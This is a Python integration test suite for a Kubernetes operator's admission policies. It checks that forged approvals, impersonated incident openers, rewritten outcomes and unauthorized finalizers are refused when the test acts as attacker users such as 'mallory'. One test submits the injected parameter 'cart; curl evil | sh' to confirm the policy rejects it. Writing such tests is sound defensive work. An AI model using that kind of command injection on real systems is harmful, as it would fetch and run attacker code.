"""Admission, on the real kube-apiserver (manifests/admission.yaml, outcome-hold.yaml, rbac.yaml, the CRDs).

The policies are applied as shipped, for this module only, and deleted
afterwards: they bind in every namespace and would refuse other tests'
Incidents and Approvals that do not carry the creator's identity.

Each attack of issue 12's round is made here as a user holding the chart's
roles (kubectl --as): recall-responder (opens incidents, records outcomes),
recall-approver, the operator's own ServiceAccount, or the admin.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from recall_operator.kube import jobs as jobkit
from support import held_on_resolving, remove_admission, wait_for

pytestmark = pytest.mark.integration

MANIFESTS = Path(__file__).resolve().parents[2] / "manifests"
ADMIN = "admin"  # the test cluster's admin certificate (group system:masters)
BRIDGE = "system:serviceaccount:recall-system:recall-operator"  # the operator, whose bridge opens incidents
OPERATOR = BRIDGE
BRIDGE_OPENER = "system:recall:alertmanager-bridge"
OUTCOME_HOLD = "recall.dev/outcome"
OPENED_BY = "recall.dev/opened-by"
PARAMETERS_BY = "recall.dev/parameters-by"
PLAN = "9f2c0a1b9f2c0a1b"
REFUSED: list[str] = []  # bad inputs the API server refused, for the report


def apply_files(kubectl: Callable[..., Any], *names: str) -> None:
    args = ["apply", "--server-side", "--force-conflicts", "--field-manager=recall-test"]
    for n in names:
        args += ["-f", str(MANIFESTS / n)]
    proc = kubectl(*args)
    assert proc.returncode == 0, proc.stderr


def approval(ns: str, name: str, approver: str) -> dict[str, Any]:
    return {
        "apiVersion": "recall.dev/v1alpha1",
        "kind": "Approval",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"incident": "inc-0042", "planHash": PLAN, "decision": "approve", "approver": approver,
                 "reason": "matches the dry-run"},
    }


def incident(ns: str, name: str, opened_by: str | None) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name, "namespace": ns}
    if opened_by is not None:
        meta["annotations"] = {OPENED_BY: opened_by}
    return {"apiVersion": "recall.dev/v1alpha1", "kind": "Incident", "metadata": meta,
            "spec": {"service": "checkout", "title": "p99 latency above 2s", "severity": "high"}}


def create(kubectl: Callable[..., Any], obj: dict[str, Any], as_user: str | None = None,
           as_groups: tuple[str, ...] = (), dry_run: bool = False) -> Any:
    args = ["create", "-f", "-", "-o", "name"] + (["--dry-run=server"] if dry_run else [])
    return kubectl(*args, input=json.dumps(obj), as_user=as_user, as_groups=as_groups)


def refused(proc: Any, *words: str, what: str) -> None:
    assert proc.returncode != 0, f"{what}: was allowed:\n{proc.stdout}"
    text = proc.stderr
    for w in words:
        assert w in text, f"{what}: {w!r} not in:\n{text}"
    REFUSED.append(what)


@pytest.fixture(scope="module")
def policies(kubectl: Callable[..., Any]) -> Iterator[None]:
    apply_files(kubectl, "namespace-restricted.yaml", "rbac.yaml", "admission.yaml", "outcome-hold.yaml")
    try:
        # Policies load asynchronously: retry a known-bad create until it is refused.
        def both_refused() -> Any:
            bad_a = create(kubectl, approval("default", "policy-probe", "nobody-else"), dry_run=True)
            bad_i = create(kubectl, incident("default", "policy-probe", None), dry_run=True)
            return bad_a.returncode != 0 and bad_i.returncode != 0 and (bad_a, bad_i)

        bad_a, bad_i = wait_for("the admission policies to refuse an Approval and an Incident that lie about "
                                "their author", both_refused, deadline=90)
        assert "must be you" in bad_a.stderr + bad_i.stderr, bad_a.stderr + bad_i.stderr
        wait_for("the outcome hold to be added to an Incident created resolved", lambda: held_on_resolving(kubectl),
                 deadline=90)
        yield
    finally:
        remove_admission(kubectl, [d for n in ("admission.yaml", "outcome-hold.yaml")
                                   for d in yaml.safe_load_all((MANIFESTS / n).read_text())])


@pytest.fixture
def approvers(kubectl: Callable[..., Any], namespace: str, policies: None) -> str:
    for user in ("alice", "bob"):
        proc = kubectl("create", "rolebinding", f"approver-{user}", "--clusterrole=recall-approver",
                       f"--user={user}", "-n", namespace)
        assert proc.returncode == 0, proc.stderr
    for user in ("mallory", "olga"):
        proc = kubectl("create", "rolebinding", f"responder-{user}", "--clusterrole=recall-responder",
                       f"--user={user}", "-n", namespace)
        assert proc.returncode == 0, proc.stderr
    return namespace


def eventually_refused(attempt: Callable[[], Any], *words: str, what: str, deadline: float = 60) -> None:
    """A policy that was just applied loads asynchronously: retry until it refuses (a refusal that never comes fails)."""
    last: list[Any] = []

    def refused_now() -> Any:
        last[:] = [attempt()]
        return last[0].returncode != 0 and last[0]

    proc = wait_for(f"a refusal of {what}", refused_now, deadline=deadline,
                    detail=lambda: f"the last attempt was allowed:\n{last[0].stdout}")
    refused(proc, *words, what=what)


POLICIES = ("recall-approval-identity", "recall-incident-opener", "recall-outcome-identity",
            "recall-approval-open-incident", "recall-operator-jobs", "recall-operator-job-runbook",
            "recall-contradiction-reconciler")


def test_policies_type_check_cleanly(kubectl: Callable[..., Any], policies: None) -> None:
    for name in POLICIES:
        out = kubectl("get", "validatingadmissionpolicy", name, "-o", "json", check=True).stdout
        status = json.loads(out).get("status") or {}
        warnings = (status.get("typeChecking") or {}).get("expressionWarnings") or []
        assert not warnings, warnings


def test_an_approval_is_signed_by_its_creator(kubectl: Callable[..., Any], approvers: str) -> None:
    ns = approvers
    ok = create(kubectl, approval(ns, "by-alice", "alice"), as_user="alice")
    assert ok.returncode == 0, ok.stderr
    ok = create(kubectl, approval(ns, "by-bob", "bob"), as_user="bob")
    assert ok.returncode == 0, ok.stderr

    refused(create(kubectl, approval(ns, "alice-for-bob", "bob"), as_user="alice"),
            "spec.approver must be you (alice): an Approval is signed by the person who creates it",
            what="alice signs an Approval as bob")
    refused(create(kubectl, approval(ns, "bob-for-alice", "alice"), as_user="bob"),
            "spec.approver must be you (bob)", what="bob signs an Approval as alice")
    # system:masters bypasses RBAC, not identity.
    refused(create(kubectl, approval(ns, "admin-for-alice", "alice")),
            f"spec.approver must be you ({ADMIN})", what="the admin signs an Approval as alice")
    refused(create(kubectl, approval(ns, "group-trick", "alice"), as_user="mallory", as_groups=("system:masters",)),
            "spec.approver must be you (mallory)", what="a system:masters member signs as alice")
    refused(create(kubectl, approval(ns, "bridge-for-alice", "alice"), as_user=BRIDGE),
            what="the operator's ServiceAccount signs an Approval")
    names = kubectl("get", "approvals", "-n", ns, "-o", "name", check=True).stdout.split()
    assert sorted(names) == ["approval.recall.dev/by-alice", "approval.recall.dev/by-bob"]


def test_an_approval_cannot_be_changed(kubectl: Callable[..., Any], approvers: str) -> None:
    ns = approvers
    assert create(kubectl, approval(ns, "signed", "alice"), as_user="alice").returncode == 0
    patch = json.dumps({"spec": {"approver": "bob"}})
    # alice may create but not change (RBAC); the admin may not change it either (immutable spec).
    refused(kubectl("patch", "approval", "signed", "-n", ns, "--type=merge", "-p", patch, as_user="alice"),
            "forbidden", what="alice re-signs her Approval")
    refused(kubectl("patch", "approval", "signed", "-n", ns, "--type=merge", "-p", patch),
            "cannot be changed", what="the admin re-signs alice's Approval")
    out = kubectl("get", "approval", "signed", "-n", ns, "-o", "jsonpath={.spec.approver}", check=True).stdout
    assert out == "alice"


def test_an_incident_records_who_opened_it(kubectl: Callable[..., Any], approvers: str) -> None:
    ns = approvers
    ok = create(kubectl, incident(ns, "opened-by-admin", ADMIN))
    assert ok.returncode == 0, ok.stderr
    refused(create(kubectl, incident(ns, "anonymous", None)),
            f"recall.dev/opened-by must be you ({ADMIN})", "it is missing", what="an Incident without its opener")
    refused(create(kubectl, incident(ns, "framed", "alice")),
            f"must be you ({ADMIN})", "not alice", what="an Incident opened in alice's name")
    # Another namespace's account named recall-operator is not the bridge.
    impostor = f"system:serviceaccount:{ns}:recall-operator"
    refused(create(kubectl, incident(ns, "impostor", None), as_user=impostor, as_groups=("system:masters",)),
            f"must be you ({impostor})", what="a look-alike bridge account opens an anonymous Incident")


def test_the_bridge_opens_incidents_as_itself(kubectl: Callable[..., Any], approvers: str) -> None:
    """Item 5: a bridge incident records the bridge as its opener, so the approval rules can count for it."""
    ns = approvers
    ok = create(kubectl, incident(ns, "from-alert", BRIDGE_OPENER), as_user=BRIDGE)
    assert ok.returncode == 0, ok.stderr
    refused(create(kubectl, incident(ns, "anonymous-alert", None), as_user=BRIDGE),
            f"must be {BRIDGE_OPENER}", "it is missing", what="the bridge opens an Incident with no opener")
    refused(create(kubectl, incident(ns, "for-alice", "alice"), as_user=BRIDGE),
            f"must be {BRIDGE_OPENER}", "not alice", what="the bridge opens an Incident in alice's name")
    # Nobody else passes for the bridge (that would buy a stricter rule, but still a false record).
    refused(create(kubectl, incident(ns, "fake-alert", BRIDGE_OPENER), as_user="mallory"),
            "must be you (mallory)", what="a person opens an Incident as the bridge")
    # Nor does anyone take an alert's name first: its pages would go onto their report.
    refused(create(kubectl, incident(ns, "alert-3f2a9c1e7b5d4a60", "mallory"), as_user="mallory"),
            "alert-3f2a9c1e7b5d4a60 is reserved", "alert bridge", what="mallory opens an alert's Incident first")
    ok = create(kubectl, incident(ns, "alert-3f2a9c1e7b5d4a60", BRIDGE_OPENER), as_user=BRIDGE)
    assert ok.returncode == 0, ok.stderr


def test_the_opener_cannot_be_rewritten(kubectl: Callable[..., Any], approvers: str) -> None:
    ns = approvers
    assert create(kubectl, incident(ns, "mine", ADMIN)).returncode == 0
    assert create(kubectl, incident(ns, "from-alert", BRIDGE_OPENER), as_user=BRIDGE).returncode == 0

    def annotate(name: str, value: str | None, as_user: str | None = None) -> Any:
        arg = f"{OPENED_BY}-" if value is None else f"{OPENED_BY}={value}"
        return kubectl("annotate", "incident", name, "-n", ns, "--overwrite", arg, as_user=as_user)

    refused(annotate("mine", "alice"), "cannot be added, changed or removed", f"was {ADMIN}",
            what="the opener rewritten")
    refused(annotate("mine", None), "cannot be added, changed or removed", what="the opener removed")
    refused(annotate("from-alert", ADMIN), f"was {BRIDGE_OPENER}", what="a person takes over a bridge incident")
    refused(annotate("from-alert", "alice", as_user=BRIDGE), "cannot be added",
            what="the bridge gives its incident to someone afterwards")
    # Other metadata and the spec stay editable, and the status is not the policy's business.
    ok = kubectl("annotate", "incident", "mine", "-n", ns, "note=checked")
    assert ok.returncode == 0, ok.stderr
    ok = kubectl("patch", "incident", "mine", "-n", ns, "--type=merge", "-p", '{"spec":{"severity":"critical"}}')
    assert ok.returncode == 0, ok.stderr


def test_only_who_opened_an_incident_changes_its_report(kubectl: Callable[..., Any], approvers: str) -> None:
    """Someone else's open report, rewritten and then resolved by one person, was memory "witnessed".

    mallory copied a recurrence's report over olga's unrelated Incident and
    recorded "runbook X failed" on it: opened by olga, confirmed by mallory, it
    counted as two people's word, blocked a runbook the operator saw work and
    lowered its win rate.
    """
    ns = approvers
    assert create(kubectl, incident(ns, "olgas-disk", "olga"), as_user="olga").returncode == 0
    assert create(kubectl, incident(ns, "alert-5e1c", BRIDGE_OPENER), as_user=BRIDGE).returncode == 0

    def patch(name: str, spec: dict[str, Any], as_user: str | None) -> Any:
        return kubectl("patch", "incident", name, "-n", ns, "--type=merge", "-p", json.dumps({"spec": spec}),
                       as_user=as_user)

    for edit, what in (({"service": "cart"}, "mallory moves olga's report to cart"),
                       ({"title": "cart p99 over 2s", "symptoms": ["latency-spike"]}, "mallory rewrites it"),
                       ({"labels": {"team": "cart"}}, "mallory adds labels"),
                       ({"service": "cart", "resolution": {"summary": "recycled cart: failed",
                                                           "confirmedBy": "mallory"}},
                        "mallory rewrites and resolves it in one request")):
        refused(patch("olgas-disk", edit, "mallory"), "only olga, who opened this Incident, changes its report",
                "not mallory", what=what)
    refused(patch("alert-5e1c", {"severity": "low"}, "mallory"),
            f"only {BRIDGE_OPENER}, who opened this Incident", what="mallory edits an alert's report")
    refused(patch("olgas-disk", {"description": "it was the cart"}, None), "only olga",
            what="the admin edits olga's report")
    # The opener refines her own report; the bridge its alert's; anyone names the service to act on,
    # and anyone records the outcome of the report as it stands.
    assert patch("olgas-disk", {"description": "disk 97% on orders-db-2"}, "olga").returncode == 0
    assert patch("alert-5e1c", {"severity": "critical"}, BRIDGE).returncode == 0
    ok = kubectl("patch", "incident", "olgas-disk", "-n", ns, "--type=merge", "-p", json.dumps(
        {"metadata": {"annotations": {PARAMETERS_BY: "mallory"}}, "spec": {"parameters": {"SERVICE": "orders-db"}}}),
        as_user="mallory")
    assert ok.returncode == 0, ok.stderr
    ok = resolve(kubectl, ns, "olgas-disk", {"summary": "grew the volume", "confirmedBy": "mallory"}, "mallory")
    assert ok.returncode == 0, ok.stderr


def test_who_sets_the_parameters_signs_them(kubectl: Callable[..., Any], approvers: str) -> None:
    """mallory pointed olga's plan at another deployment and then approved it: four-eyes saw olga open
    it and mallory approve, two people, while mallory alone chose what ran. The parameters now carry
    who set them, and four-eyes does not count that person as an approver (domain.approval_rules)."""
    ns = approvers
    assert create(kubectl, incident(ns, "olgas-cart", "olga"), as_user="olga").returncode == 0

    def patch(body: dict[str, Any], as_user: str | None) -> Any:
        return kubectl("patch", "incident", "olgas-cart", "-n", ns, "--type=merge", "-p", json.dumps(body),
                       as_user=as_user)

    def signed(user: str | None) -> dict[str, Any]:
        return {"metadata": {"annotations": {PARAMETERS_BY: user}}}

    params = {"spec": {"parameters": {"SERVICE": "cart-canary"}}}
    refused(patch(params, "mallory"), "changing spec.parameters takes the annotation recall.dev/parameters-by: mallory",
            what="mallory sets the parameters without saying so")
    refused(patch({**params, **signed("bob")}, "mallory"), "recall.dev/parameters-by: mallory",
            what="mallory sets the parameters in bob's name")
    refused(patch(signed("mallory"), "mallory"), "changes only with spec.parameters",
            what="mallory claims parameters she did not set")
    ok = patch({**params, **signed("mallory")}, "mallory")
    assert ok.returncode == 0, ok.stderr
    # Signed as the rules ask, a value with shell in it or a name no $(NAME) can be is still refused.
    refused(patch({"spec": {"parameters": {"SERVICE": "cart; curl evil | sh"}}, **signed("mallory")}, "mallory"),
            "a parameter value is one plain word", what="mallory slips shell into a parameter")
    refused(patch({"spec": {"parameters": {"service": "cart"}}, **signed("mallory")}, "mallory"),
            "a parameter name is A-Z, 0-9 and _", what="mallory sets a parameter no command can use")
    refused(patch(signed(None), "mallory"), "changes only with spec.parameters", what="mallory removes her name")
    refused(patch({"metadata": {"annotations": {PARAMETERS_BY: "olga"}}}, "olga"),
            "changes only with spec.parameters", what="olga takes mallory's values as her own")
    # Anything else of the Incident is changed as before, the name standing.
    assert patch({"spec": {"description": "canary first"}}, "olga").returncode == 0
    opened = incident(ns, "olgas-other", "olga")
    opened["metadata"]["annotations"][PARAMETERS_BY] = "bob"
    refused(create(kubectl, opened, as_user="olga"), "(on create: you, olga)",
            what="olga opens an Incident whose parameters she says bob set")


def test_on_1_36_the_api_server_signs_the_parameters_itself(kubectl: Callable[..., Any], approvers: str) -> None:
    """With manifests/parameters-signature.yaml a plain edit of the parameters is signed for its author;
    whatever name the request claims, the one written is the user's."""
    ns = approvers
    assert create(kubectl, incident(ns, "olgas-queue", "olga"), as_user="olga").returncode == 0
    signature = [d for d in yaml.safe_load_all((MANIFESTS / "parameters-signature.yaml").read_text()) if d]

    def edit(values: dict[str, Any], claimed: str | None = None, dry_run: bool = False, who: str = "mallory") -> Any:
        body: dict[str, Any] = {"spec": {"parameters": values}}
        if claimed:
            body["metadata"] = {"annotations": {PARAMETERS_BY: claimed}}
        return kubectl("patch", "incident", "olgas-queue", "-n", ns, "--type=merge", "-p", json.dumps(body),
                       *(["--dry-run=server"] if dry_run else []), as_user=who)

    apply_files(kubectl, "parameters-signature.yaml")
    try:
        wait_for("the signature policy in force", lambda: edit({"QUEUE": "probe"}, dry_run=True).returncode == 0,
                 deadline=90)
        for values, claimed in (({"QUEUE": "billing"}, None), ({"QUEUE": "billing-2"}, "bob")):
            done = edit(values, claimed)
            assert done.returncode == 0, done.stderr
            meta = json.loads(kubectl("get", "incident", "olgas-queue", "-n", ns, "-o", "json", check=True).stdout)
            assert meta["metadata"]["annotations"][PARAMETERS_BY] == "mallory", meta["metadata"]
        # Anything else of the Incident is not signed: the name stands, and cannot be taken.
        refused(kubectl("patch", "incident", "olgas-queue", "-n", ns, "--type=merge", "-p", json.dumps(
            {"metadata": {"annotations": {PARAMETERS_BY: "olga"}}}), as_user="olga"),
            "changes only with spec.parameters", what="olga takes mallory's values as hers, signature on")
    finally:
        for d in signature:
            kubectl("delete", d["kind"].lower() + ".admissionregistration.k8s.io", d["metadata"]["name"],
                    "--ignore-not-found")
        # Signed by mallory now: olga's unsigned change is refused again once the policy is gone.
        wait_for("the signature policy gone", lambda: edit({"QUEUE": "probe-2"}, dry_run=True, who="olga")
                 .returncode != 0, deadline=90)


def test_only_the_operator_holds_a_deletion(kubectl: Callable[..., Any], approvers: str) -> None:
    """The finalizer recall.dev/outcome holds a deletion while an outcome waits for memory: the
    operator's to add; a person may take it off (the way out when the operator is gone)."""
    ns = approvers
    assert create(kubectl, incident(ns, "held", ADMIN)).returncode == 0

    def finalizers(names: list[str] | None, as_user: str | None = None) -> Any:
        return kubectl("patch", "incident", "held", "-n", ns, "--type=merge",
                       "-p", json.dumps({"metadata": {"finalizers": names}}), as_user=as_user)

    refused(finalizers([OUTCOME_HOLD]), "only the operator, or recording an outcome, adds the finalizer recall.dev/outcome",
            what="a person holds an Incident's deletion")
    born = incident(ns, "born-held", ADMIN)
    born["metadata"]["finalizers"] = [OUTCOME_HOLD]
    refused(create(kubectl, born), "only the operator, or recording an outcome, adds", what="an Incident created held")
    ok = finalizers([OUTCOME_HOLD], as_user=OPERATOR)
    assert ok.returncode == 0, ok.stderr
    ok = finalizers([OUTCOME_HOLD, "example.com/keep"])  # kept, and another finalizer is not the policy's business
    assert ok.returncode == 0, ok.stderr
    ok = finalizers(None)
    assert ok.returncode == 0, ok.stderr


def finalizers_of(kubectl: Callable[..., Any], ns: str, name: str) -> list[str]:
    body = json.loads(kubectl("get", "incident", name, "-n", ns, "-o", "json", check=True).stdout)
    return list(body["metadata"].get("finalizers") or [])


def test_recording_an_outcome_holds_the_incident_s_deletion(kubectl: Callable[..., Any], approvers: str) -> None:
    """The API server adds the outcome hold in the request that records an outcome, whoever records it,
    so an Incident resolved and deleted while the operator is down waits for it (test_deletion shows the
    operator letting it go); nothing else adds it, and it is never added to an Incident being deleted."""
    ns = approvers
    assert create(kubectl, incident(ns, "to-hold", "mallory"), as_user="mallory").returncode == 0
    ok = kubectl("patch", "incident", "to-hold", "-n", ns, "--type=merge", "-p", '{"spec":{"severity":"low"}}',
                 as_user="mallory")
    assert ok.returncode == 0, ok.stderr
    assert finalizers_of(kubectl, ns, "to-hold") == []  # an edit that records no outcome holds nothing
    ok = resolve(kubectl, ns, "to-hold", {"summary": "recycled cart", "confirmedBy": "mallory"}, "mallory")
    assert ok.returncode == 0, ok.stderr
    assert finalizers_of(kubectl, ns, "to-hold") == [OUTCOME_HOLD]
    # The operator let go once memory had it; a correction is a new outcome, held again, beside another finalizer.
    ok = kubectl("patch", "incident", "to-hold", "-n", ns, "--type=merge", "-p",
                 json.dumps({"metadata": {"finalizers": ["example.com/keep"]}}))
    assert ok.returncode == 0, ok.stderr
    fix = {"reason": "it was redis", "summary": "flushed redis by hand", "confirmedBy": "olga"}
    ok = correct(kubectl, ns, "to-hold", [fix], "olga")
    assert ok.returncode == 0, ok.stderr
    assert finalizers_of(kubectl, ns, "to-hold") == ["example.com/keep", OUTCOME_HOLD]
    # Created already resolved (an import of past incidents): held too.
    born = incident(ns, "born-resolved", "mallory")
    born["spec"]["resolution"] = {"summary": "went away", "confirmedBy": "mallory"}
    assert create(kubectl, born, as_user="mallory").returncode == 0
    assert finalizers_of(kubectl, ns, "born-resolved") == [OUTCOME_HOLD]
    # Being deleted (kept by another finalizer): a correction is taken, and no hold is added.
    ok = kubectl("patch", "incident", "to-hold", "-n", ns, "--type=merge", "-p",
                 json.dumps({"metadata": {"finalizers": ["example.com/keep"]}}))
    assert ok.returncode == 0, ok.stderr
    assert kubectl("delete", "incident", "to-hold", "-n", ns, "--wait=false").returncode == 0
    ok = correct(kubectl, ns, "to-hold", [fix, {**fix, "reason": "and the network", "confirmedBy": "olga"}], "olga")
    assert ok.returncode == 0, ok.stderr
    assert finalizers_of(kubectl, ns, "to-hold") == ["example.com/keep"]
    for name in ("to-hold", "born-resolved"):
        ok = kubectl("patch", "incident", name, "-n", ns, "--type=merge", "-p", '{"metadata":{"finalizers":null}}')
        assert ok.returncode == 0, ok.stderr
    # A resolved Incident let go is not held again without a new outcome in the same request.
    refused(kubectl("patch", "incident", "born-resolved", "-n", ns, "--type=merge", "-p",
                    json.dumps({"metadata": {"finalizers": [OUTCOME_HOLD]}}), as_user="mallory"),
            "mallory may remove it, not add it", what="mallory holds a resolved Incident again")


def resolve(kubectl: Callable[..., Any], ns: str, name: str, resolution: Any, as_user: str | None) -> Any:
    return kubectl("patch", "incident", name, "-n", ns, "--type=merge",
                   "-p", json.dumps({"spec": {"resolution": resolution}}), as_user=as_user)


def correct(kubectl: Callable[..., Any], ns: str, name: str, corrections: list[dict[str, Any]], as_user: str | None
            ) -> Any:
    return kubectl("patch", "incident", name, "-n", ns, "--type=merge",
                   "-p", json.dumps({"spec": {"corrections": corrections}}), as_user=as_user)


def test_an_outcome_is_signed_by_whoever_records_it_and_never_rewritten(
    kubectl: Callable[..., Any], approvers: str
) -> None:
    """Item 1: confirmedBy is the authenticated user; a recorded outcome is immutable; corrections are appended."""
    ns = approvers
    assert create(kubectl, incident(ns, "olgas", "olga"), as_user="olga").returncode == 0
    fake = {"summary": "recycled cart", "runbook": "cart-recycle",
            "actions": [{"action": "run runbook cart-recycle", "result": "succeeded"}]}
    eventually_refused(lambda: resolve(kubectl, ns, "olgas", {**fake, "confirmedBy": "olga"}, "mallory"),
                       "spec.resolution.confirmedBy must be you (mallory)", "not olga",
                       what="mallory records an outcome in olga's name")
    refused(resolve(kubectl, ns, "olgas", fake, "mallory"), "must be you (mallory)", "it is missing",
            what="mallory records an unsigned outcome")
    refused(resolve(kubectl, ns, "olgas", {**fake, "confirmedBy": "olga"}, None), f"must be you ({ADMIN})",
            what="the admin records an outcome in olga's name")
    ok = resolve(kubectl, ns, "olgas", {**fake, "confirmedBy": "mallory"}, "mallory")
    assert ok.returncode == 0, ok.stderr  # signed with her own name: admitted (the operator weighs it)

    # Once recorded, nobody rewrites it, not even the admin, and it cannot be removed.
    changed = {**fake, "summary": "it was redis after all", "confirmedBy": "olga"}
    refused(resolve(kubectl, ns, "olgas", changed, "olga"), "cannot be changed or removed once recorded",
            what="olga overwrites the recorded outcome")
    refused(resolve(kubectl, ns, "olgas", {**fake, "confirmedBy": "mallory", "summary": "x"}, None),
            "cannot be changed or removed once recorded", what="the admin overwrites the recorded outcome")
    refused(resolve(kubectl, ns, "olgas", None, "mallory"), "cannot be changed or removed once recorded",
            what="mallory removes the recorded outcome")

    # A correction is a new record, signed by whoever adds it.
    fix = {"reason": "the rollback never ran; redis was flushed by hand", "summary": "flushed redis by hand",
           "actions": [{"action": "flushed hot keys by hand", "result": "succeeded"}]}
    refused(correct(kubectl, ns, "olgas", [{**fix, "confirmedBy": "mallory"}], "olga"),
            "its confirmedBy must be you (olga)", what="olga signs a correction as mallory")
    ok = correct(kubectl, ns, "olgas", [{**fix, "confirmedBy": "olga"}], "olga")
    assert ok.returncode == 0, ok.stderr
    refused(correct(kubectl, ns, "olgas", [{**fix, "confirmedBy": "olga", "summary": "rewritten"}], "olga"),
            "only grow", what="olga rewrites her correction")
    refused(correct(kubectl, ns, "olgas", [], None), "only grow", what="the admin removes a correction")
    # mallory copies olga's correction to the end: memory would take it anew, in olga's name.
    mine = {**fix, "reason": "and the network", "confirmedBy": "mallory"}
    ok = correct(kubectl, ns, "olgas", [{**fix, "confirmedBy": "olga"}, mine], "mallory")
    assert ok.returncode == 0, ok.stderr
    refused(correct(kubectl, ns, "olgas", [{**fix, "confirmedBy": "olga"}, mine, {**fix, "confirmedBy": "olga"}],
                    "mallory"), "a correction someone else signed cannot be added again",
            what="mallory replays olga's correction")
    body = json.loads(kubectl("get", "incident", "olgas", "-n", ns, "-o", "json", check=True).stdout)
    assert body["spec"]["resolution"]["confirmedBy"] == "mallory"
    assert [c["confirmedBy"] for c in body["spec"]["corrections"]] == ["olga", "mallory"]


def test_a_withdrawal_is_a_correction_signed_by_whoever_withdraws(kubectl: Callable[..., Any], approvers: str) -> None:
    """Taking an incident out of recall is a correction: signed, appended, and a boolean that says so."""
    ns = approvers
    assert create(kubectl, incident(ns, "loadtest", "olga"), as_user="olga").returncode == 0
    outcome = {"summary": "flushed the hot keys", "actions": [{"action": "flushed hot keys", "result": "succeeded"}]}
    eventually_refused(lambda: resolve(kubectl, ns, "loadtest", {**outcome, "confirmedBy": "mallory"}, "olga"),
                       "must be you (olga)", what="olga records an outcome in mallory's name")
    assert resolve(kubectl, ns, "loadtest", {**outcome, "confirmedBy": "olga"}, "olga").returncode == 0
    withdraw = {**outcome, "reason": "a load test, not an outage", "withdrawn": True}
    refused(correct(kubectl, ns, "loadtest", [{**withdraw, "confirmedBy": "olga"}], "mallory"),
            "its confirmedBy must be you (mallory)", what="mallory withdraws it in olga's name")
    refused(correct(kubectl, ns, "loadtest", [{**withdraw, "withdrawn": "yes", "confirmedBy": "mallory"}], "mallory"),
            "withdrawn", what="mallory withdraws it with a word that is not a boolean")
    ok = correct(kubectl, ns, "loadtest", [{**withdraw, "confirmedBy": "mallory"}], "mallory")
    assert ok.returncode == 0, ok.stderr  # signed as herself: admitted, and shown with her name
    refused(correct(kubectl, ns, "loadtest", [], "olga"), "only grow", what="olga removes the withdrawal")
    back = {**outcome, "reason": "it was a real outage", "confirmedBy": "olga"}
    ok = correct(kubectl, ns, "loadtest", [{**withdraw, "confirmedBy": "mallory"}, back], "olga")
    assert ok.returncode == 0, ok.stderr  # a newer correction that does not withdraw it brings it back
    body = json.loads(kubectl("get", "incident", "loadtest", "-n", ns, "-o", "json", check=True).stdout)
    assert [(c["confirmedBy"], c.get("withdrawn")) for c in body["spec"]["corrections"]] == [
        ("mallory", True), ("olga", None)]


def test_the_report_of_a_resolved_incident_is_never_rewritten(kubectl: Callable[..., Any], approvers: str) -> None:
    """A report edited after its outcome went into memory with the next correction.

    mallory moved olga's confirmed outcome to another service by editing
    spec.service, then adding a correction: memory wrote the success under a
    report that never paged. The report is frozen with the outcome, for
    everyone; only corrections grow.
    """
    ns = approvers
    assert create(kubectl, incident(ns, "frozen", "olga"), as_user="olga").returncode == 0
    # Before the outcome, on-call refines the report, and may in the request that records it.
    ok = kubectl("patch", "incident", "frozen", "-n", ns, "--type=merge", "-p",
                 json.dumps({"spec": {"description": "p99 at 2.4 s since the 14:02 deploy"}}), as_user="olga")
    assert ok.returncode == 0, ok.stderr
    ok = kubectl("patch", "incident", "frozen", "-n", ns, "--type=merge", "-p", json.dumps({"spec": {
        "symptoms": ["latency"], "resolution": {"summary": "rolled back", "confirmedBy": "olga"}}}), as_user="olga")
    assert ok.returncode == 0, ok.stderr

    fix = {"reason": "it was the cache", "summary": "flushed the cache", "confirmedBy": "mallory"}
    for edit, what in (({"service": "payments"}, "mallory moves the outcome to another service"),
                       ({"description": "a cache stampede"}, "mallory rewrites what was seen"),
                       ({"symptoms": None}, "mallory removes the symptoms"),
                       ({"labels": {"team": "cache"}}, "mallory adds labels"),
                       ({"severity": "low"}, "mallory lowers the severity"),
                       ({"service": "payments", "corrections": [fix]}, "mallory moves it with a correction")):
        refused(kubectl("patch", "incident", "frozen", "-n", ns, "--type=merge", "-p",
                        json.dumps({"spec": edit}), as_user="mallory"),
                "the report (every spec field but corrections) cannot change once the outcome is recorded",
                what=what)
    refused(kubectl("patch", "incident", "frozen", "-n", ns, "--type=merge", "-p",
                    json.dumps({"spec": {"title": "cache stampede"}})),
            "cannot change once the outcome is recorded", what="the admin retitles a resolved incident")
    ok = correct(kubectl, ns, "frozen", [fix], "mallory")  # a correction alone still goes in
    assert ok.returncode == 0, ok.stderr
    spec = json.loads(kubectl("get", "incident", "frozen", "-n", ns, "-o", "json", check=True).stdout)["spec"]
    assert (spec["service"], spec["symptoms"], spec["description"]) == (
        "checkout", ["latency"], "p99 at 2.4 s since the 14:02 deploy")


def test_an_outcome_says_something(kubectl: Callable[..., Any], approvers: str) -> None:
    """Item 7: `resolution: {}` went into memory as an empty outcome."""
    ns = approvers
    assert create(kubectl, incident(ns, "empty", "mallory"), as_user="mallory").returncode == 0
    for outcome, what in (({}, "an empty outcome"), ({"confirmedBy": "mallory"}, "a signature alone"),
                          ({"rootCause": "x", "summary": "  ", "confirmedBy": "mallory"}, "a blank summary")):
        refused(resolve(kubectl, ns, "empty", outcome, "mallory"), "an outcome needs at least a summary or an action",
                what=what)
    ok = resolve(kubectl, ns, "empty", {"summary": "went away by itself", "confirmedBy": "mallory"}, "mallory")
    assert ok.returncode == 0, ok.stderr


def test_a_resolved_incident_accepts_no_approvals(kubectl: Callable[..., Any], approvers: str) -> None:
    """Item 2: the Approval of a resolved incident ran its plan."""
    ns = approvers
    for name in ("inc-0042", "inc-open"):
        assert create(kubectl, incident(ns, name, "mallory"), as_user="mallory").returncode == 0
    ok = resolve(kubectl, ns, "inc-0042", {"summary": "went away", "confirmedBy": "mallory"}, "mallory")
    assert ok.returncode == 0, ok.stderr
    eventually_refused(lambda: create(kubectl, approval(ns, "too-late", "bob"), as_user="bob", dry_run=True),
                       "incident inc-0042 is resolved (outcome confirmed by mallory): it accepts no approvals",
                       what="bob approves a resolved incident (server dry-run)")
    refused(create(kubectl, approval(ns, "too-late", "bob"), as_user="bob"), "is resolved",
            what="bob approves a resolved incident")
    refused(create(kubectl, approval(ns, "admin-too-late", ADMIN)), "is resolved",
            what="the admin approves a resolved incident")
    open_one = approval(ns, "in-time", "bob")
    open_one["spec"]["incident"] = "inc-open"
    ok = create(kubectl, open_one, as_user="bob")
    assert ok.returncode == 0, ok.stderr


